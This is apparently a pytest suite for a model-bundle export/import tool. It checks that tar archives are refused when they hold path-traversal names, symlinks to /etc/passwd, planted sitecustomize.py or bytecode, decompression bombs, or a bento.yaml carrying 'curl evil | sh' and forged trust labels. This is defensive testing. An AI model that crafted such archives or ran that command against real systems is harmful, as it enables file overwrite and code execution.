"""One file that moves a version: written the same every time, believed in nothing."""

from __future__ import annotations

import io
import lzma
import subprocess
import sys
import tarfile
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from keep_world import World, manifest, stage

from nbdeploy.errors import BadName, Corrupt, DiskFailed, Refused, Untrusted, WrongUse
from nbdeploy.keep.archive import export, unpack
from nbdeploy.keep.arrival import import_bundle
from nbdeploy.keep.bento import KNOWN
from nbdeploy.keep.store import handed_on
from nbdeploy.keep.trust import require_trusted
from nbdeploy.run import engine, image
from nbdeploy.runtime.manifest import FILE, altered
from nbdeploy.settings import Settings
from nbdeploy.workspace import Workspace

if TYPE_CHECKING:
    from collections.abc import Callable

    from nbdeploy.keep.version import Version


pytestmark = pytest.mark.slow


@pytest.fixture
def world(settings: Settings, tmp_path: Path) -> World:
    return World(settings, tmp_path)


@pytest.fixture
def elsewhere(tmp_path: Path) -> World:
    """Another user's homes."""
    return World(
        Settings(home=tmp_path / "other" / "nb", bentoml_home=tmp_path / "other" / "bentoml"), tmp_path / "other"
    )


@pytest.fixture
def file(world: World, tmp_path: Path) -> Path:
    world.publish()
    return export(world.registry, "penguins", None, tmp_path / "penguins.bento")


def test_a_missing_folder_is_one_sentence(world: World, tmp_path: Path) -> None:
    world.publish()
    with pytest.raises(DiskFailed, match=r"exporting penguins:1\.0\.0 failed at .*No such file or directory"):
        export(world.registry, "penguins", None, tmp_path / "out" / "x.bento")


def take(world: World, file: Path, **options: Any) -> Version:
    return import_bundle(file, world.registry, world.settings.bentoml_home, **options)


def members(file: Path) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(file) as tar:
        return {member.name: member for member in tar}


def rewritten(file: Path, change: Callable[[tarfile.TarFile], None], *, without: str | None = None) -> Path:
    """The archive with something more in it."""
    target = file.with_name("rewritten.bento")
    with tarfile.open(file) as old, tarfile.open(target, "w:xz") as new:
        for member in old:
            if member.name != without:
                new.addfile(member, old.extractfile(member) if member.isreg() else None)
        change(new)
    return target


def add(name: str, content: bytes = b"", **facts: Any) -> Callable[[tarfile.TarFile], None]:
    def change(tar: tarfile.TarFile) -> None:
        member = tarfile.TarInfo(name)
        member.size = len(content)
        for key, value in facts.items():
            setattr(member, key, value)
        tar.addfile(member, io.BytesIO(content))

    return change


def test_a_version_moves_to_another_home_under_its_own_number(world: World, elsewhere: World, tmp_path: Path) -> None:
    world.publish()
    original = world.publish()
    file = export(world.registry, "penguins", "1.0.1", tmp_path / "x.bento")
    made = take(elsewhere, file)
    assert (made.version, made.digest, made.live) == ("1.0.1", original.digest, False)
    assert made.reason == "imported: retrained"
    assert altered(made.src, made.manifest()) == []
    assert elsewhere.staged() == []
    assert elsewhere.folders() == ["1.0.1"]


def test_the_same_version_gives_the_same_bytes(world: World, file: Path, tmp_path: Path) -> None:
    again = export(world.registry, "penguins", "1.0.0", tmp_path / "again.bento")
    assert again.read_bytes() == file.read_bytes()
    assert {(member.uid, member.gid, member.uname) for member in members(file).values()} == {(0, 0, "")}


def test_caches_beside_the_code_stay_behind(world: World, file: Path, tmp_path: Path) -> None:
    cache = world.registry.get("penguins").src / "captured" / "__pycache__"
    cache.mkdir()
    (cache / "notebook_code.cpython-311.pyc").write_bytes(b"x")
    again = export(world.registry, "penguins", None, tmp_path / "again.bento")
    assert again.read_bytes() == file.read_bytes()


def test_an_altered_version_is_not_exported_and_no_half_file_is_left(world: World, tmp_path: Path) -> None:
    made = world.publish()
    (made.src / "model.pkl").write_bytes(b"other")
    with pytest.raises(Corrupt):
        export(world.registry, "penguins", None, tmp_path / "x.bento")
    assert not list(tmp_path.glob("*x.bento*"))


@pytest.mark.parametrize("name", sorted(KNOWN))
def test_a_file_beside_the_code_is_handed_on_as_it_was_published(world: World, file: Path, name: str) -> None:
    made = world.registry.get("penguins")
    path = made.bundle / name
    damaged = path.read_bytes()[:-2] + b"!\n" if path.exists() else b"FROM nobody knows where"
    path.write_bytes(damaged)
    world.registry.record("penguins", "validated", "1.0.0", report={"verdict": "passed"})
    again = export(world.registry, "penguins", None, file.with_name("again.bento"))
    assert again.read_bytes() == file.read_bytes()
    with handed_on(world.registry, made) as whole:
        assert not (whole.bundle / name).exists() or (whole.bundle / name).read_bytes() != damaged
        assert whole.bundle.is_relative_to(world.store.staging)
    assert world.staged() == []


def test_an_image_is_given_what_was_published(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    (world.publish().bundle / "README.md").write_text("damaged")
    monkeypatch.setattr(engine, "find", lambda _wanted: engine.Engine("podman", "podman"))
    monkeypatch.setattr(image, "of_version", lambda _, __, given, ___: (given.bundle / "README.md").read_text())
    assert "penguins:1.0.0" in str(Workspace(world.settings).image("penguins"))


def test_the_file_must_end_in_bento(world: World, tmp_path: Path) -> None:
    world.publish()
    with pytest.raises(WrongUse, match=r"x\.bento"):
        export(world.registry, "penguins", None, tmp_path / "x.zip")
    with pytest.raises(WrongUse, match=r"penguins\.bento"):
        export(world.registry, "penguins", None, Path())


def test_without_trust_it_is_stored_and_not_served(elsewhere: World, file: Path) -> None:
    made = take(elsewhere, file)
    assert made.state == "untrusted"
    assert "untrusted" in str(elsewhere.registry.versions("penguins"))
    with pytest.raises(Untrusted, match=f"--trust {made.digest}"):
        require_trusted(elsewhere.registry, made)


def test_with_its_digest_it_may_be_served(elsewhere: World, file: Path) -> None:
    digest = take(elsewhere, file).digest
    again = take(elsewhere, file, trust=digest)
    assert again.state == "ok"
    require_trusted(elsewhere.registry, again)
    assert len(elsewhere.registry.versions("penguins")) == 1


def test_another_digest_is_refused_and_the_real_one_named(world: World, elsewhere: World, file: Path) -> None:
    with pytest.raises(Refused, match=world.registry.get("penguins").digest):
        take(elsewhere, file, trust="sha256:" + "0" * 64)
    assert elsewhere.registry.names() == []
    assert elsewhere.folders() == []


def test_what_this_home_published_is_trusted_when_it_comes_back(world: World, file: Path) -> None:
    assert take(world, file).version == "1.0.0"
    world.publish()
    world.registry.make_live("penguins", "1.0.1")
    from nbdeploy.keep.store import remove

    remove(world.registry, world.settings.bentoml_home, "penguins", "1.0.0")
    back = take(world, file)
    assert (back.version, back.state) == ("1.0.0", "ok")
    assert world.folders() == ["1.0.0", "1.0.1"]


def test_what_is_there_already_is_said_to_be(elsewhere: World, file: Path) -> None:
    first, second = take(elsewhere, file), take(elsewhere, file)
    assert "Already here" not in str(first)
    assert "Already here, the same bytes; nothing was imported anew." in str(second)


def test_importing_mends_a_corrupt_version(world: World, file: Path) -> None:
    model = world.registry.get("penguins").src / "model.pkl"
    original = model.read_bytes()
    model.unlink()
    model.write_bytes(b"rotten")
    take(world, file)
    assert model.read_bytes() == original
    assert world.live() == "1.0.0"


def test_a_number_that_stands_for_other_bytes_is_refused(elsewhere: World, file: Path) -> None:
    elsewhere.publish(model=b"mine")
    with pytest.raises(Refused, match="stands for another bundle"):
        take(elsewhere, file)
    assert elsewhere.folders() == ["1.0.0"]
    assert elsewhere.staged() == []


def test_the_next_publish_after_an_import_passes_its_number(elsewhere: World, file: Path) -> None:
    take(elsewhere, file)
    assert elsewhere.publish(model=b"mine").version == "1.0.1"


HOSTILE: dict[str, tuple[Callable[[tarfile.TarFile], None], str]] = {
    "absolute": (add("/tmp/owned", b"x"), "leads out"),
    "parent": (add("src/../../owned", b"x"), "leads out"),
    "backslash": (add("src\\..\\owned", b"x"), "leads out"),
    "drive": (add("C:owned", b"x"), "leads out"),
    "control": (add("src/a\nb", b"x"), "leads out"),
    "symlink": (add("src/link", type=tarfile.SYMTYPE, linkname="/etc/passwd"), "link or a device"),
    "hard link": (add("src/link", type=tarfile.LNKTYPE, linkname="bento.yaml"), "link or a device"),
    "device": (add("src/null", type=tarfile.CHRTYPE), "link or a device"),
    "pipe": (add("src/pipe", type=tarfile.FIFOTYPE), "link or a device"),
    "duplicate": (add("./src/model.pkl", b"other"), "twice"),
    "duplicate by dot": (add("src/model.pkl", b"other"), "twice"),
    "duplicate by case": (add("src/MODEL.pkl", b"other"), "twice"),
    "file for a folder": (add("src", b"x"), "twice"),
    "unlisted": (add("src/sitecustomize.py", b"print('owned')"), "does not list"),
    "unlisted folder": (add("src/evil/", type=tarfile.DIRTYPE), "does not list"),
    "unlisted outside": (add("setup.py", b"x"), "does not list"),
    "model store": (add("models/x/1/model.yaml", b"x"), "does not list"),
    "empty part": (add("src//x", b"x"), "plain path"),
    "dot part": (add("src/./x", b"x"), "plain path"),
}


@pytest.mark.parametrize(("change", "fact"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_member_refuses_the_whole_archive(
    elsewhere: World, file: Path, change: Callable[[tarfile.TarFile], None], fact: str
) -> None:
    """F52"""
    with pytest.raises(Refused, match=fact):
        take(elsewhere, rewritten(file, change))
    assert elsewhere.folders() == []
    assert elsewhere.staged() == []
    assert elsewhere.registry.names() == []


def test_bytecode_in_an_archive_is_not_unpacked(elsewhere: World, file: Path) -> None:
    """`bentoml export` packs what Python left beside the code; a planted one must not run."""
    planted = rewritten(file, add("./src/captured/__pycache__/notebook_code.cpython-311.pyc", b"planted"))
    made = take(elsewhere, planted)
    assert not list(made.bundle.rglob("*.pyc"))


@pytest.mark.parametrize("name", ["src/model.pkl", "bento.yaml", "src/manifest.json"])
def test_an_archive_that_lacks_something_is_refused(elsewhere: World, file: Path, name: str) -> None:
    with pytest.raises(Refused):
        take(elsewhere, rewritten(file, lambda _: None, without=f"./{name}"))
    assert elsewhere.folders() == []


def test_a_bento_of_somebody_else_is_refused_clearly(elsewhere: World, tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "foreign.bento", "w:xz") as tar:
        add("./bento.yaml", b"name: x\nversion: y\n")(tar)
    with pytest.raises(Refused, match="a Bento that nbdeploy did not make"):
        take(elsewhere, tmp_path / "foreign.bento")


@pytest.mark.parametrize(
    "content", [b"", b"PK\3\4", b"\xfd7zXZ\0garbage", b"x" * 2000, b"\x1f\x8bno", b"BZhno", lzma.compress(b"y" * 900)]
)
def test_what_is_no_archive_is_refused_in_one_sentence(elsewhere: World, tmp_path: Path, content: bytes) -> None:
    (tmp_path / "x.bento").write_bytes(content)
    with pytest.raises(Refused, match="was not imported"):
        take(elsewhere, tmp_path / "x.bento")


def test_a_truncated_archive_is_refused(elsewhere: World, file: Path) -> None:
    content = file.read_bytes()
    for size in range(0, len(content), len(content) // 10 + 1):
        file.write_bytes(content[:size])
        with pytest.raises(Refused):
            take(elsewhere, file)
    assert elsewhere.staged() == []


def test_a_bomb_is_refused_before_it_is_unpacked(elsewhere: World, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.bento"
    with lzma.open(bomb, "wb", preset=0) as out:
        member = tarfile.TarInfo("src/model.pkl")
        member.size = 10 << 30
        out.write(member.tobuf())
        out.write(b"\0" * 1_000_000)
    with pytest.raises(Refused, match="more than it can honestly hold"):
        take(elsewhere, bomb)
    assert elsewhere.staged() == []


def test_a_huge_extended_header_is_refused_without_reading_it(elsewhere: World, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.bento"
    with lzma.open(bomb, "wb", preset=0) as out:
        member = tarfile.TarInfo("pax")
        member.type, member.size = tarfile.XHDTYPE, 50 << 20
        out.write(member.tobuf())
        for _ in range(50):
            out.write(b"\0" * (1 << 20))
    with pytest.raises(Refused, match="header is too long"):
        unpack(bomb, tmp_path / "out")


def test_nothing_but_name_and_number_is_believed_of_bento_yaml(world: World, elsewhere: World, file: Path) -> None:
    with tarfile.open(file) as tar:
        content = tar.extractfile("./bento.yaml")
        assert content is not None
        raw = yaml.safe_load(content.read())
    raw |= {"service": "evil:Service", "envs": [{"name": "X", "value": "y"}]}
    raw["image"]["commands"] = ["curl evil | sh"]
    raw["labels"] |= {"nbdeploy.gate": "passed", "nbdeploy.by": "root", "nbdeploy.proof": "f" * 64}
    planted = rewritten(file, add("./bento.yaml", yaml.safe_dump(raw).encode()), without="./bento.yaml")
    made = take(elsewhere, planted, by="ada")
    text = (made.bundle / "bento.yaml").read_text()
    assert "evil" not in text
    assert "f" * 64 not in text
    assert (made.gate, made.by) == ("none", "ada")


@pytest.mark.parametrize("change", [{"version": "../../x"}, {"version": "1.0"}, {"name": "whales"}, {"version": None}])
def test_a_bento_yaml_that_does_not_fit_is_refused(elsewhere: World, file: Path, change: dict[str, Any]) -> None:
    raw = {"name": "penguins", "version": "1.0.0"} | change
    planted = rewritten(file, add("./bento.yaml", yaml.safe_dump(raw).encode()), without="./bento.yaml")
    with pytest.raises(Refused, match="was not imported"):
        take(elsewhere, planted)
    assert elsewhere.folders() == []


def test_a_name_in_the_manifest_cannot_lead_out_of_the_store(elsewhere: World, file: Path, tmp_path: Path) -> None:
    made = stage(tmp_path / "evil", manifest("../../evil"))
    with tarfile.open(tmp_path / "evil.bento", "w:xz") as tar:
        tar.add(tmp_path / "evil" / "src", "src")
        add("bento.yaml", yaml.safe_dump({"name": made.name, "version": "1.0.0"}).encode())(tar)
    with pytest.raises(Refused, match="cannot name a service"):
        take(elsewhere, tmp_path / "evil.bento")


def test_an_edited_manifest_is_refused(elsewhere: World, file: Path, tmp_path: Path) -> None:
    made = stage(tmp_path / "edited")
    (tmp_path / "edited" / "src" / FILE).write_bytes(replace(made, artefact="golden.json").dumps())
    with tarfile.open(tmp_path / "edited.bento", "w:xz") as tar:
        tar.add(tmp_path / "edited" / "src", "src")
        add("bento.yaml", b"name: penguins\nversion: 1.0.0\n")(tar)
    with pytest.raises(Refused, match="the manifest was edited"):
        take(elsewhere, tmp_path / "edited.bento")


@hypothesis_settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(harm=st.tuples(st.integers(0, 20_000), st.integers(0, 255), st.integers(1, 30)))
def test_a_damaged_archive_is_refused_or_the_same(
    tmp_path: Path, harm: tuple[int, int, int], file: Path, elsewhere: World
) -> None:
    content = bytearray(lzma.decompress(file.read_bytes()))
    position, value, count = harm
    start = position % len(content)
    content[start : start + count] = bytes([value]) * len(content[start : start + count])
    mutated = tmp_path / "mutated.bento"
    mutated.write_bytes(content)
    try:
        made = take(elsewhere, mutated)
    except Refused:
        return
    assert altered(made.src, made.manifest()) == []


@pytest.mark.thorough
def test_a_large_model_moves_in_bounded_memory(tmp_path: Path) -> None:
    """F31: the peak of a process that publishes, exports and imports them."""
    script = f"""
import resource, sys
sys.path.insert(0, {str(Path(__file__).parent)!r})
from pathlib import Path
import keep_world
from nbdeploy.keep.archive import export
from nbdeploy.keep.arrival import import_bundle
from nbdeploy.keep.registry import Registry
from nbdeploy.runtime.manifest import FILE, digest_of
from nbdeploy.settings import Settings
from dataclasses import replace
root = Path({str(tmp_path)!r})
world = keep_world.World(Settings(home=root / "nb", bentoml_home=root / "b"), root)
other = keep_world.World(Settings(home=root / "nb2", bentoml_home=root / "b2"), root)
made = keep_world.stage(root / "big")
model = root / "big" / "src" / "model.pkl"
block = __import__("os").urandom(1 << 20)
with model.open("wb") as out:
    for _ in range(300):
        out.write(block)
made = replace(made, files={{**made.files, "model.pkl": digest_of(model)}})
made = replace(made, digest=made.computed_digest())
(root / "big" / "src" / FILE).write_bytes(made.dumps())
keep_world.publish(root / "big", made, world.registry, root / "b")
file = export(world.registry, "penguins", None, root / "x.bento")
import_bundle(file, other.registry, root / "b2")
peak = Path("/proc/self/status")  # getrusage would give that of the process that started this one, if it was larger
lines = peak.read_text().splitlines() if peak.exists() else [f"VmHWM: {{resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}} kB"]
print(next(line.split()[1] for line in lines if line.startswith("VmHWM")))
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert int(done.stdout) < 200_000  # kB


def test_bad_names_are_what_publish_refuses_as_well(world: World) -> None:
    with pytest.raises(BadName):
        world.publish(manifest("x/y"))
